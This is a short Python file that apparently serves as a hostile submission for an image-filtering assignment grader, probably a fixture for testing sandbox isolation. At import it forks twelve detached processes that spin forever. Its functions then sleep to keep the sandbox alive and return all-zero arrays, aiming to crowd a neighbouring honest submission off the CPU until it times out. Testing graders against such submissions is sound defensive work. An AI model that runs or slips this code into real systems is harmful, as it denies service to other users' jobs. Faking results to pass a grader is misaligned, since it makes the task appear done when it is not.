"""Hostile (to its neighbour): at import it starts a dozen busy processes, each in a session
of its own; each call then sleeps most of its limit (keeping its sandbox, and so the busy
processes, alive) and answers zeros. Graded beside an honest CPU-bound submission, it tries
to crowd it out of the CPU so that the honest one times out."""

import os
import time

import numpy as np

SPINNERS = 12


def _spin():
    for _ in range(SPINNERS):
        if os.fork() == 0:
            os.setsid()
            while True:
                pass


_spin()


def my_imfilter(image, filter):
    time.sleep(2.5)
    return np.zeros_like(image)


def create_hybrid_image(image1, image2, filter):
    time.sleep(2.5)
    zeros = np.zeros_like(image1)
    return zeros, zeros, zeros
